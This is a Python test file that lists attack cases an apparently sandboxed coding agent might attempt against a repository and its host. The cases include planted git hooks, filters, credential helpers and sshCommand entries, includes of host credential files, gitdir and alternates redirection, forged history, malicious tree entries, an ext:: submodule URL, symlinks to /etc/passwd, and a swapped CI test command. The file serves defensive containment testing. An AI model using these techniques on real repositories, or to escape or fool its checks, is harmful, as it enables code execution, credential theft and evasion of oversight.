"""The agent prepares its repository for whoever runs git in it next, and makes commits that nobody should take."""

from tests.security.cases import DELIVERED, REFUSED, RUN, UNPROVEN, Case, attack
from tests.security.payload import NOTHING

_COMMIT = "git add docs && git commit -qm 'docs: a note'"
_ON_IT = "git write-tree > /dev/null; base=$(git rev-parse HEAD)"

CONFIGURATION = (
    Case(
        "hooks of every kind",
        (RUN,),
        attack(f"""
mkdir -p .git/hooks
for hook in pre-commit post-commit post-checkout prepare-commit-msg reference-transaction post-index-change; do
    cp hook.sh .git/hooks/$hook; chmod +x .git/hooks/$hook
done
{_COMMIT}"""),
        hears=(NOTHING,),
    ),
    Case(
        "a directory of hooks",
        (RUN,),
        attack(f"""
mkdir .git/planted; cp hook.sh .git/planted/pre-commit; chmod +x .git/planted/pre-commit
printf '[core]\\n\\thooksPath = .git/planted\\n' >> .git/config
{_COMMIT}"""),
        hears=(NOTHING,),
    ),
    Case(
        "a monitor of the file system",
        (RUN,),
        attack("""
cp hook.sh .git/watch; chmod +x .git/watch
printf '[core]\\n\\tfsmonitor = /workspace/.git/watch\\n' >> .git/config
git update-index --fsmonitor; git status"""),
        hears=(NOTHING,),
    ),
    Case(
        "filters that run at each checkout and commit",
        (RUN,),
        {
            ".gitattributes": "docs/* filter=evil\n",
            **attack(f"""
printf '[filter "evil"]\\n\\tclean = "sh hook.sh; cat"\\n\\tsmudge = "sh hook.sh; cat"\\n' >> .git/config
{_COMMIT}"""),
        },
        hears=(NOTHING,),
    ),
    Case(
        "programs for differences and merges",
        (RUN,),
        {
            ".gitattributes": "docs/* diff=evil merge=evil\n",
            **attack("""
printf '[diff]\\n\\texternal = sh hook.sh\\n[diff "evil"]\\n\\ttextconv = sh hook.sh\\n' >> .git/config
printf '[merge "evil"]\\n\\tdriver = sh hook.sh\\n' >> .git/config
echo more >> docs/index.md
git diff --ext-diff --textconv"""),
        },
        hears=(NOTHING,),
    ),
    Case(
        "commands for transports and credentials",
        (RUN,),
        attack("""
cat >> .git/config <<'END'
[core]
    sshCommand = sh hook.sh
    gitProxy = sh hook.sh
[credential]
    helper = "!sh hook.sh"
[remote "origin"]
    url = ssh://git.example/x.git
    uploadpack = sh hook.sh
    receivepack = sh hook.sh
[url "@GIT@"]
    insteadOf = https://
[protocol]
    allow = always
END
git fetch origin; git push origin HEAD:stolen; git ls-remote https://x/y; cat $TMPDIR/payload.log"""),
        hears=(NOTHING,),
    ),
    Case(
        "a program for signatures",
        (RUN,),
        attack(f"""
cp hook.sh .git/sign; chmod +x .git/sign
printf '[commit]\\n\\tgpgSign = true\\n[gpg]\\n\\tprogram = /workspace/.git/sign\\n' >> .git/config
{_COMMIT}; cat $TMPDIR/payload.log; printf '[commit]\n\tgpgSign = false\n' >> .git/config"""),
        hears=(NOTHING,),
    ),
    Case(
        "aliases, pagers and editors",
        (RUN,),
        attack("""
cat >> .git/config <<'END'
[alias]
    st = "!sh hook.sh"
[core]
    pager = sh hook.sh
    editor = sh hook.sh
    askPass = sh hook.sh
END
git st"""),
        hears=(NOTHING,),
    ),
    Case(
        "a configuration that includes the host's",
        (RUN,),
        attack("""
printf '[include]\\n\\tpath = @LOOT@/secret\\n\\tpath = @HOME@/.git-credentials\\n' >> .git/config
printf '[includeIf "gitdir:/"]\\n\\tpath = @HOME@/.gitconfig\\n' >> .git/config
git config --list --show-origin; true"""),
        hears=("core.bare",),
    ),
    Case(
        "a work tree elsewhere",
        (RUN,),
        attack("printf '[core]\\n\\tworktree = @LOOT@/anybody\\n' >> .git/config; git status; git checkout -f; true"),
        ends=(DELIVERED, REFUSED),
    ),
    Case(
        "a .git that points to a repository of the host",
        (RUN,),
        attack("mv .git /tmp/old; echo 'gitdir: @GIT@' > .git; git log; git show main:secret.txt; true"),
        hears=("not a git repository",),
        ends=(REFUSED,),
    ),
    Case(
        "a .git that is a link to the worker's own",
        (RUN,),
        attack("mv .git /tmp/old; ln -s @WORK@/mirrors .git; git log; ls .git; true"),
        hears=("not a git repository",),
        ends=(REFUSED,),
    ),
    Case(
        "objects of a repository of the host",
        (RUN,),
        attack("""
echo @GIT@/objects >> .git/objects/info/alternates; git cat-file --batch-all-objects --batch-check | wc -l
git --git-dir=@GIT@ cat-file -p main:secret.txt; true"""),
        hears=("not a git repository",),
    ),
    Case(
        "writing over the objects that it borrows",
        (RUN,),
        attack("""
find $(cat .git/objects/info/alternates) -type f | while read file; do
    chmod u+w "$file"; echo spoiled > "$file"; rm -f "$file"
done; touch $(cat .git/objects/info/alternates)/planted"""),
        hears=("Read-only file system",),
    ),
    Case(
        "no repository any more",
        (RUN,),
        attack("rm -rf .git/objects .git/refs; echo nonsense > .git/HEAD; echo nonsense > .git/config"),
        ends=(REFUSED,),
    ),
)

HISTORY = (
    Case(
        "history that is cut and grafted",
        (RUN,),
        attack(f"""
{_ON_IT}; echo $base > .git/shallow
other=$(git commit-tree -m other $base^{{tree}})
echo "$base $other" > .git/info/grafts
{_COMMIT}; git log --oneline"""),
        ends=(DELIVERED, REFUSED),
    ),
    Case(
        "a commit in the place of another",
        (RUN,),
        attack(f"""
{_ON_IT}; forged=$(git commit-tree -m forged $base^{{tree}})
mkdir -p .git/refs/replace; echo $forged > .git/refs/replace/$base
{_COMMIT}; git log --format=%s"""),
        hears=("forged",),
        ends=(DELIVERED, REFUSED),
    ),
    Case(
        "branches, tags and notes of its own",
        (RUN,),
        attack(f"""
{_COMMIT}; git branch stolen; git branch agentvine/docs/stolen; git tag v99; git tag -a -m x v100
git notes add -m note; mkdir -p .git/refs/pull/1; git rev-parse HEAD > .git/refs/pull/1/head; git for-each-ref"""),
        hears=("refs/tags/v100",),
    ),
    Case("a history of its own", (RUN,), attack("git checkout -q --orphan own; git commit -qm own"), ends=(REFUSED,)),
    Case(
        "an amended base",
        (RUN,),
        attack("git add docs; git commit -q --amend -m 'feat: begin, but differently'"),
        ends=(REFUSED,),
    ),
    Case(
        "a merge with a history from elsewhere",
        (RUN,),
        attack(f"""
{_COMMIT}; other=$(git commit-tree -m other HEAD^{{tree}})
git merge -q --allow-unrelated-histories -m merged $other"""),
        ends=(REFUSED,),
    ),
    Case(
        "more commits than anybody reads",
        (RUN,),
        attack("""
python3 -c '
print("reset refs/heads/work\\nfrom refs/heads/work^0\\n")
for n in range(700):
    print(f"commit refs/heads/work\\ncommitter x <x@x> {n} +0000\\ndata 1\\nx")
' | git fast-import --quiet --force"""),
        honest=False,
        ends=(REFUSED,),
    ),
)


def _tree(mode: str, name: str) -> str:
    """A commit whose tree holds something that git itself would not let in."""
    return f"""
blob=$(echo '[core]' | git hash-object -w --stdin)
inner=$(printf "100644 blob $blob\\tconfig\\n" | git mktree)
export name='{name}' mode={mode} entry=$inner
[ $mode = 40000 ] || export entry=$blob
tree=$( (git cat-file tree HEAD; python3 -c '
import os, sys
sys.stdout.buffer.write(os.fsencode(f"{{os.environ['"'mode'"']}} {{os.environ['"'name'"']}}") + bytes(1))
sys.stdout.buffer.write(bytes.fromhex(os.environ['"'entry'"']))
') | git hash-object -t tree -w --stdin --literally)
commit=$(git commit-tree -m 'docs: a note' -p HEAD $tree)
echo $commit > .git/refs/heads/work; git cat-file -t $commit"""


RESULTS = (
    Case("a .GIT in the tree", (RUN,), attack(_tree("40000", ".GIT")), hears=("commit",), ends=(REFUSED,)),
    Case("a GIT~1 in the tree", (RUN,), attack(_tree("40000", "GIT~1")), hears=("commit",), ends=(REFUSED,)),
    Case("two dots in the tree", (RUN,), attack(_tree("40000", "..")), hears=("commit",), ends=(REFUSED,)),
    Case("an absolute path in the tree", (RUN,), attack(_tree("100644", "/etc/x")), hears=("commit",), ends=(REFUSED,)),
    Case(
        "a submodule",
        (RUN,),
        attack("""
printf '[submodule "docs/sub"]\\n\\tpath = docs/sub\\n\\turl = "ext::sh -c hook.sh"\\n' > .gitmodules
git add .gitmodules; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),docs/sub
git commit -qm 'docs: sub'"""),
        ends=(REFUSED,),
    ),
    Case(
        "links out of the tree",
        (RUN,),
        attack("ln -s @LOOT@/secret docs/secret.md; ln -s ../../../../../../etc docs/up; ln -s /etc/passwd docs/p.md"),
        ends=(REFUSED,),
    ),
    Case("a file of 30 MB", (RUN,), attack("head -c 30000000 /dev/zero > docs/big.md"), ends=(REFUSED,)),
    Case(
        "a change to the pipeline and to how it is tested",
        (RUN,),
        {
            ".agentvine.toml": "[test]\ncommand = 'echo of the base'\n",
            **attack("""
mkdir -p .github/workflows; echo 'on: push' > .github/workflows/ci.yml
printf "[test]\\ncommand = 'echo forged; python3 payload.py'\\n" > .agentvine.toml"""),
        },
        ends=(UNPROVEN,),
        proves=("of the base",),
        disproves=("forged", "payload:"),
    ),
)

CASES = (*CONFIGURATION, *HISTORY, *RESULTS)
